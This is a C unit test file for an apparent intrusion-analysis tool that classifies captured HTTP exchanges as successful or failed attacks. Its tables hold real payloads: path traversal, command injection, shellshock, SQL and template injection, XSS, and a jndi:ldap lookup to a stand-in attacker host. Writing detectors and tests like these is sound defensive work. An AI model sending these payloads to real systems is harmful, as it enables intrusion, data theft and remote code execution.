/* SPDX-License-Identifier: Apache-2.0 */
#include "packet/outcome.h"

#include "exchange_util.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

#define ATTACKER "198.51.100.7"
#define VICTIM   "10.1.2.3"
#define NO_MARK  YG_MARK_COUNT

#define PASSWD "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/bin/sh\n"
#define PAGE(x)                                                                          \
    "<!DOCTYPE html><html><head><title>Shop</title></head><body>" x "</body></html>"

static struct yg_outcome judge(struct scene *s, int main, int64_t alert_ns)
{
    struct yg_outcome o;

    yg_outcome_of(
        &(struct yg_outcome_ask){
            .talk = s->list, .talks = s->talks, .main = main, .alert_ns = alert_ns },
        &s->arena, &o);
    for (unsigned i = 0; i < o.marks; i++) {
        const struct yg_mark *m = &o.mark[i];
        struct yg_str bytes = s->list[m->talk]->side[m->side].bytes;
        assert_true(m->kind < YG_MARK_COUNT);
        if (m->len > 0)
            assert_memory_equal(bytes.p + m->at, m->shows.p, m->len);
    }
    return o;
}

/* clang-format off */
static const struct web {
    const char *what;
    struct http_case http;
    uint8_t success;
    uint8_t mark; /* that must be there */
    double took;
} web[] = {
#define OK_(w, yes, m, ask, got)                                                         \
    { w, { .target = ask, .status = 200, .answer = got }, yes, m, 0.02 }
#define ST_(w, yes, m, ask, code, got)                                                   \
    { w, { .target = ask, .status = code, .answer = got }, yes, m, 0.02 }
    OK_("the file that was asked for", YG_SUCCEEDED, YG_M_FILE_CONTENT,
        "/p?f=../../../../etc/passwd", PASSWD),
    OK_("the file inside of a page", YG_SUCCEEDED, YG_M_FILE_CONTENT,
        "/p?f=/etc/passwd", PAGE("<pre>" PASSWD "</pre>")),
    OK_("a page about passwd that nobody asked to be read", YG_UNDECIDED, YG_M_ORDINARY,
        "/docs/passwd-format", PAGE("<pre>" PASSWD "</pre>")),
    OK_("the file is not in the answer", YG_FAILED, YG_M_ABSENT,
        "/p?f=../../etc/passwd", PAGE("Welcome")),
    ST_("traversal, not found", YG_FAILED, YG_M_MISSING, "/../../etc/passwd", 404, "no"),
    ST_("traversal, forbidden", YG_FAILED, YG_M_DENIED, "/p?f=../../etc/passwd", 403, "no"),
    ST_("traversal, bad request", YG_FAILED, YG_M_ERROR_PAGE, "/p?f=../../etc/passwd", 400,
        "no"),
    ST_("traversal, server error", YG_UNDECIDED, YG_M_ERROR_PAGE, "/p?f=../../etc/passwd",
        500, "java.lang.NullPointerException"),
    OK_("win.ini", YG_SUCCEEDED, YG_M_FILE_CONTENT, "/p?f=..\\..\\windows\\win.ini",
        "; for 16-bit app support\r\n[fonts]\r\n"),
    OK_("source of a script", YG_SUCCEEDED, YG_M_FILE_CONTENT,
        "/p?f=php://filter/resource=index.php", "<?php\n$db = 1;"),
    OK_("git configuration", YG_SUCCEEDED, YG_M_FILE_CONTENT, "/.git/config",
        "[core]\n\trepositoryformatversion = 0\n"),
    OK_("a page in place of the git configuration", YG_UNDECIDED, YG_M_ORDINARY,
        "/.git/config", PAGE("Welcome")),
    OK_("keys of the environment", YG_SUCCEEDED, YG_M_FILE_CONTENT, "/.env",
        "APP_NAME=x\nDB_PASSWORD=y\n"),
    OK_("directory listing", YG_SUCCEEDED, YG_M_DIRECTORY_LISTING, "/p/../../backup/",
        "<html><title>Index of /backup</title>"),
    OK_("id", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/ping?h=1;id",
        "uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
    OK_("a blog with the output of id, which was asked for its posts", YG_UNDECIDED,
        YG_M_ORDINARY, "/blog?post=7", PAGE("uid=0(root) gid=0(root)")),
    OK_("a blog with the output of id, attacked with another command", YG_UNDECIDED,
        YG_M_ORDINARY, "/blog?post=7;ifconfig", PAGE("uid=0(root) gid=0(root)")),
    OK_("the command is shown, not run", YG_UNDECIDED, YG_M_ORDINARY, "/ping?h=1;id",
        PAGE("No results for 1;id")),
    OK_("the wanted output is in the question", YG_UNDECIDED, YG_M_ORDINARY,
        "/p?q=;echo uid=0(root) gid=0(root);id",
        PAGE("No results for ;echo uid=0(root) gid=0(root);id")),
    OK_("dir", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/p?h=1|dir",
        " Volume in drive C has no label.\r\n Volume Serial Number is 1234-ABCD\r\n"),
    OK_("ls -l", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/p?h=`ls -l`",
        "total 12\ndrwxr-xr-x 2 root root 4096 Jan  1 00:00 www\n"),
    OK_("uname -a", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/p?h=$(uname -a)",
        "Linux web1 5.10.0-8-amd64 #1 SMP Debian x86_64 GNU/Linux"),
    OK_("ipconfig", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/p?h=1&h=x|ipconfig",
        "Windows IP Configuration\r\n\r\n   IPv4 Address. . . : 10.0.0.5\r\n"),
    OK_("whoami, all of the answer", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT,
        "/shell.php?cmd=whoami", "www-data\n"),
    OK_("whoami on Windows", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/x.aspx?cmd=whoami",
        "nt authority\\system\r\n"),
    OK_("whoami answered with a page", YG_UNDECIDED, YG_M_ORDINARY, "/shell.php?cmd=whoami",
        PAGE("Welcome")),
    OK_("a marker printed", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/p?h=;echo kq83hzx7",
        PAGE("kq83hzx7")),
    OK_("a marker only shown with its command", YG_UNDECIDED, YG_M_ORDINARY,
        "/p?h=;echo kq83hzx7", PAGE("unknown host ;echo kq83hzx7")),
    OK_("a sum worked out by a shell", YG_SUCCEEDED, YG_M_EVALUATED,
        "/p?h=;expr 41239 - 100", PAGE("41139")),
    OK_("phpinfo", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/i.php?a=phpinfo()",
        "<title>phpinfo()</title><h1>PHP Version 7.4.3</h1>"),
    { "shellshock", { .target = "/cgi-bin/a", .head = "User-Agent: () { :;}; /bin/cat /etc/passwd\r\n",
                      .status = 200, .answer = PASSWD }, YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, 0.02 },
    OK_("an expression worked out", YG_SUCCEEDED, YG_M_EVALUATED, "/h?n={{7*7}}",
        PAGE("Hello 49!")),
    OK_("an expression shown", YG_FAILED, YG_M_VERBATIM, "/h?n={{7*7}}",
        PAGE("Hello {{7*7}}! 49 visitors")),
    OK_("a large product", YG_SUCCEEDED, YG_M_EVALUATED, "/h?n=${1337*1337}",
        PAGE("Hello 1787569")),
    OK_("script came back", YG_SUCCEEDED, YG_M_REFLECTED, "/s?q=<script>alert(1)</script>",
        PAGE("Results for <script>alert(1)</script>")),
    OK_("script came back escaped", YG_UNDECIDED, YG_M_ORDINARY,
        "/s?q=<script>alert(1)</script>", PAGE("Results for nothing")),
    { "script in JSON", { .target = "/s?q=<script>alert(1)</script>", .status = 200,
                          .type = "application/json", .answer = "{\"q\":\"<script>alert(1)</script>\"}" },
      YG_UNDECIDED, YG_M_ORDINARY, 0.02 },
    OK_("script in a title", YG_FAILED, YG_M_ESCAPED, "/s?q=<script>alert(1)</script>",
        "<html><title><script>alert(1)</script></title><body>"),
    OK_("handler inside of a tag", YG_SUCCEEDED, YG_M_REFLECTED,
        "/s?q=\" onmouseover=alert(1) x=\"",
        PAGE("<input value=\"\" onmouseover=alert(1) x=\"\">")),
    OK_("handler between tags", YG_FAILED, YG_M_ESCAPED, "/s?q=\" onmouseover=alert(1) x=\"",
        PAGE("You asked for \" onmouseover=alert(1) x=\"")),
    ST_("script in an error page runs, too", YG_SUCCEEDED, YG_M_REFLECTED,
        "/<img src=x onerror=alert(1)>", 404, PAGE("/<img src=x onerror=alert(1)> not found")),
    OK_("marker out of the database", YG_SUCCEEDED, YG_M_DATABASE_CONTENT,
        "/i?id=-1 union select concat(0x716b7a71,version(),0x71787171)-- -",
        PAGE("qkzq5.7.33qxqq")),
    OK_("the query is shown", YG_UNDECIDED, YG_M_ORDINARY,
        "/i?id=-1 union select concat(0x716b7a71,version(),0x71787171)-- -",
        PAGE("no item -1 union select concat(0x716b7a71,version(),0x71787171)-- -")),
    OK_("version of the database", YG_SUCCEEDED, YG_M_DATABASE_CONTENT,
        "/i?id=-1 union select 1,@@version,3", PAGE("8.0.32-0ubuntu0.22.04")),
    OK_("names of the schema", YG_SUCCEEDED, YG_M_DATABASE_CONTENT,
        "/i?id=-1 union select table_name from information_schema.tables",
        PAGE("CHARACTER_SETS<br>COLLATIONS<br>KEY_COLUMN_USAGE")),
    OK_("digests of passwords", YG_SUCCEEDED, YG_M_DATABASE_CONTENT,
        "/i?id=-1 union select user,password from users",
        PAGE("<td>admin</td><td>5f4dcc3b5aa765d61d8327deb882cf99</td>")),
    OK_("error of the database", YG_UNDECIDED, YG_M_DATABASE_ERROR, "/i?id=1'",
        PAGE("You have an error in your SQL syntax; check the manual")),
    ST_("error of the database with 500", YG_UNDECIDED, YG_M_DATABASE_ERROR, "/i?id=1' or 1=1",
        500, "ORA-00933: SQL command not properly ended"),
    OK_("error that quotes data", YG_SUCCEEDED, YG_M_DATABASE_CONTENT,
        "/i?id=1 and extractvalue(1,concat(0x7e,user()))",
        PAGE("XPATH syntax error: '~shop@localhost'")),
    { "as late as asked", { .target = "/i?id=1 and sleep(5)", .status = 200,
                            .answer = PAGE("item") }, YG_SUCCEEDED, YG_M_DELAYED, 5.1 },
    { "not as late as asked", { .target = "/i?id=1 and sleep(5)", .status = 200,
                                .answer = PAGE("item") }, YG_UNDECIDED, YG_M_ORDINARY, 0.1 },
    { "later than asked", { .target = "/i?id=1 and sleep(5)", .status = 200,
                            .answer = PAGE("item") }, YG_UNDECIDED, YG_M_ORDINARY, 9 },
    ST_("always true, plain answer", YG_UNDECIDED, YG_M_ORDINARY, "/i?id=1' or '1'='1", 200,
        PAGE("item")),
    ST_("a filter's page with status 200", YG_FAILED, YG_M_DENIED, "/i?id=1' or '1'='1", 200,
        "<html><head><title>Request Rejected</title></head><body>The requested URL was "
        "rejected."),
    ST_("not found with status 200", YG_FAILED, YG_M_MISSING, "/cgi-bin/x?id=1|id", 200,
        "<html><head><title>404 Not Found</title></head>"),
    { "no answer to an accepted question", { .target = "/p?h=;id" }, YG_UNDECIDED,
      YG_M_SILENCE, 0 },
    { "a script was taken", { .verb = "PUT", .target = "/x.jsp", .body = "<% out.print(1); %>",
                              .status = 201, .answer = "" }, YG_SUCCEEDED, YG_M_UPLOADED, 0.02 },
    ST_("a look-up that only got an error", YG_UNDECIDED, YG_M_MISSING,
        "/?x=${jndi:ldap://198.51.100.9/a}", 404, "no"),
    ST_("a look-up that a filter kept off", YG_FAILED, YG_M_DENIED,
        "/?x=${jndi:ldap://198.51.100.9/a}", 403, "no"),
    OK_("traversal under one encoding", YG_SUCCEEDED, YG_M_FILE_CONTENT,
        "/p?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd", PASSWD),
    OK_("traversal under two encodings", YG_SUCCEEDED, YG_M_FILE_CONTENT,
        "/p?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", PASSWD),
    OK_("a command under base64", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT,
        "/p?h=OyBjYXQgL2V0Yy9wYXNzd2QgIw%3d%3d", PASSWD),
    OK_("script under encodings, escaped", YG_FAILED, YG_M_ESCAPED,
        "/s?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        PAGE("Results for &lt;script&gt;alert(1)&lt;/script&gt;")),
    OK_("script under encodings, as it is", YG_SUCCEEDED, YG_M_REFLECTED,
        "/s?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        PAGE("Results for <script>alert(1)</script>")),
    OK_("output in JSON", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/p?h=%3Bid",
        "{\"out\":\"uid=33(www-data) gid=33(www-data)\\n\"}"),
    OK_("file and command in one question: the command need not show", YG_UNDECIDED,
        YG_M_ORDINARY, "/p?h=%3Bcat+/etc/passwd", PAGE("done")),
    OK_("tag in a parameter, escaped", YG_FAILED, YG_M_ESCAPED,
        "/s?q=<b title=x>bold</b>", PAGE("&lt;b title=x&gt;bold&lt;/b&gt;")),
    { "as late as the command asked", { .target = "/p?h=;sleep 6", .status = 200,
                                        .answer = PAGE("done") }, YG_SUCCEEDED, YG_M_DELAYED, 6.1 },
OK_("harmless", YG_UNDECIDED, YG_M_ORDINARY, "/index.html", PAGE("Welcome")),
#undef OK_
#undef ST_
};
/* clang-format on */

static void one_question(void **state)
{
    unsigned wrong = 0;

    (void)state;
    for (size_t i = 0; i < sizeof(web) / sizeof(web[0]); i++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, 0);
        scene_http(s, t, &web[i].http, 0.1, web[i].took);
        struct yg_outcome o = judge(s, 0, 0);
        if (o.success != web[i].success || !has(&o, web[i].mark)) {
            wrong++;
            for (unsigned m = 0; m < o.marks; m++)
                print_message("# has %s\n", yg_mark_info[o.mark[m].kind].name);
            for (unsigned m = 0; m < o.intents; m++)
                print_message("# tries %s: %.*s\n", yg_intent_name(o.intent[m].kind),
                              YG_STR_ARG(o.intent[m].text));
            print_message("# %s: %s, not %s with %s\n", web[i].what,
                          yg_success_name(o.success), yg_success_name(web[i].success),
                          yg_mark_info[web[i].mark].name);
        }
        scene_free(s);
    }
    assert_int_equal(wrong, 0);
}

/* What stands in the answer to a harmless question, too, was not got by the attack. */
static void what_was_there_anyway(void **state)
{
    static const struct http_case ask[] = {
        { .target = "/blog", .status = 200, .answer = PAGE("uid=0(root) gid=0(root)") },
        { .target = "/blog?p=;id",
          .status = 200,
          .answer = PAGE("uid=0(root) gid=0(root)") },
    };

    (void)state;
    for (size_t first = 0; first < 2; first++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, 0);
        for (size_t i = first; i < 2; i++)
            scene_http(s, t, &ask[i], (double)i, 0.1);
        struct yg_outcome o = judge(s, 0, 0);
        assert_int_equal(o.success, first ? YG_SUCCEEDED : YG_UNDECIDED);
        scene_free(s);
    }
}

/* The same page in UTF-16 is judged as in UTF-8: escaped or not. */
static void wide_pages(void **state)
{
    static const char *const page[] = {
        PAGE("Results for <script>alert(1)</script>"),
        PAGE("Results for &lt;script&gt;alert(1)&lt;/script&gt;")
    };
    static const struct http_case ask = { .target = "/s?q=<script>alert(1)</script>",
                                          .status = 200 };

    (void)state;
    for (size_t i = 0; i < 4; i++) {
        char wide[1024];
        size_t n = strlen(page[i / 2]);
        struct scene *s = scene_new();
        struct yg_exchange *x =
            scene_http(s, scene_talk(s, ATTACKER, VICTIM, 80, 0), &ask, 0, 0.1);
        for (size_t k = 0; k < n; k++) {
            wide[2 * k + i % 2] = page[i / 2][k];
            wide[2 * k + 1 - i % 2] = '\0';
        }
        x->answer_body = (struct yg_str){ wide, 2 * n };
        struct yg_outcome o = judge(s, 0, 0);
        assert_int_equal(o.success, i / 2 ? YG_FAILED : YG_SUCCEEDED);
        scene_free(s);
    }
}

#define SCRIPT "<script>alert(1)</script>"
#define CODED  "&lt;script&gt;alert(1)&lt;/script&gt;"

/* "Made harmless" is said of a page that did it, and of all of it. */
/* clang-format off */
static const struct escape {
    const char *what, *ask, *page;
    uint8_t success;
    bool escaped;
} escapes[] = {
    { "references by number", "/s?q=" SCRIPT,
      PAGE("&#60;script&#62;alert(1)&#60;/script&#62;"), YG_FAILED, true },
    { "references in hex", "/s?q=" SCRIPT,
      PAGE("&#x3C;script&#x3e;alert(1)&#x03c;/script&#x3E;"), YG_FAILED, true },
    { "only the opening brackets", "/s?q=" SCRIPT,
      PAGE("&lt;script>alert(1)&lt;/script>"), YG_FAILED, true },
    { "escapes of a script's string", "/s?q=" SCRIPT,
      PAGE("<script>var q = \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\";</script>"),
      YG_FAILED, true },
    { "twice, both escaped", "/s?q=" SCRIPT, PAGE("<i>" CODED "</i><b>" CODED "</b>"),
      YG_FAILED, true },
    { "in a comment", "/s?q=" SCRIPT, PAGE("<!-- " SCRIPT " -->"), YG_FAILED, true },
    { "in the value of an input, quotes and all", "/s?q=\">" SCRIPT,
      PAGE("<input value=\"&quot;&gt;" CODED "\">"), YG_FAILED, true },
    /* not so */
    { "once escaped, once as it is", "/s?q=" SCRIPT, PAGE("<i>" CODED "</i><b>" SCRIPT "</b>"),
      YG_SUCCEEDED, false },
    { "once escaped, once in an address that every browser encodes", "/s?q=" SCRIPT,
      PAGE("<a href=\"/s?q=%3Cscript%3Ealert(1)%3C/script%3E\">" CODED "</a>"),
      YG_FAILED, true },
    { "only in such an address", "/s?q=" SCRIPT,
      PAGE("<a href=\"/s?q=%3Cscript%3Ealert(1)%3C/script%3E\">next</a>"),
      YG_UNDECIDED, false },
    { "once escaped, once in other letters", "/s?q=" SCRIPT,
      PAGE("<i>" CODED "</i><SCRIPT>ALERT(1)</SCRIPT>"), YG_UNDECIDED, false },
    { "once escaped, once inside of a tag", "/s?q=" SCRIPT,
      PAGE("<i>" CODED "</i><input value='" SCRIPT "'>"), YG_UNDECIDED, false },
    { "brackets escaped, the quote that leaves the tag not", "/s?q=\" onfocus=alert(1) <b>x</b>",
      PAGE("<input value=\"\" onfocus=alert(1) &lt;b&gt;x&lt;/b&gt;\">"), YG_UNDECIDED, false },
    { "the comment is closed by it", "/s?q=--><script>alert(1)</script>",
      PAGE("<!-- --><i><!-- --><script>alert(1)</script> -->"), YG_SUCCEEDED, false },
    { "the title is closed by it", "/s?q=</title><script>alert(1)</script>",
      "<html><title></title><script>alert(1)</script></title>", YG_UNDECIDED, false },
    { "in a string of a script", "/s?q=\";alert(document.cookie);//",
      PAGE("<script>var q = \"\";alert(document.cookie);//\";</script>"), YG_UNDECIDED, false },
    { "a tag in a string of a script does not run", "/s?q=<img src=x onerror=alert(1)>",
      PAGE("<script>var q = \"<img src=x onerror=alert(1)>\";</script>"), YG_UNDECIDED, false },
    { "what ends the script does", "/s?q=</script><img src=x onerror=alert(1)>",
      PAGE("<script>var q = \"</script><img src=x onerror=alert(1)>\";</script>"),
      YG_SUCCEEDED, false },
    { "an address to run, in a link", "/s?u=javascript:alert(1)",
      PAGE("<a href=\"javascript:alert(1)\">next</a>"), YG_UNDECIDED, false },
    { "an address to run, as text", "/s?u=javascript:alert(1)",
      PAGE("no such page: javascript:alert(1)"), YG_FAILED, true },
    { "a text with references is shown as it was sent", "/s?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B",
      PAGE(CODED), YG_UNDECIDED, false },
    { "escapes are shown as they were sent", "/s?q=%5cu003cscript%5cu003ealert(1)",
      PAGE("\\u003cscript\\u003ealert(1)"), YG_UNDECIDED, false },
    { "a command in the same question need not show", "/s?q=" SCRIPT ";id", PAGE(CODED ";id"),
      YG_UNDECIDED, false },
    { "one bracket of it is as it was", "/s?q=" SCRIPT, PAGE("&lt;script&gt;alert(1)</script>"),
      YG_UNDECIDED, false },
    { "only a part came back", "/s?q=" SCRIPT, PAGE("&lt;script&gt;"), YG_UNDECIDED, false },
};
/* clang-format on */

static void made_harmless(void **state)
{
    unsigned wrong = 0;

    (void)state;
    for (size_t i = 0; i < 2 * YG_ARRAY_LEN(escapes); i++) {
        const struct escape *e = &escapes[i / 2];
        const struct http_case ask = { .target = e->ask,
                                       .status = 200,
                                       .answer = e->page };
        struct scene *s = scene_new();
        bool cut = i % 2; /* what is not there may hold what runs */
        struct yg_exchange *x =
            scene_http(s, scene_talk(s, ATTACKER, VICTIM, 80, 0), &ask, 0, 0.1);
        if (cut)
            x->flags |= YG_XF_CUT;
        struct yg_outcome o = judge(s, 0, 0);
        unsigned want = cut && e->escaped ? YG_UNDECIDED : e->success;
        if (o.success != want || has(&o, YG_M_ESCAPED) != (e->escaped && !cut)) {
            wrong++;
            print_message("# wrong: %s%s: %s\n", e->what, cut ? ", cut" : "",
                          yg_success_name(o.success));
        }
        scene_free(s);
    }
    assert_int_equal(wrong, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(one_question),
        cmocka_unit_test(what_was_there_anyway),
        cmocka_unit_test(wide_pages),
        cmocka_unit_test(made_harmless),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
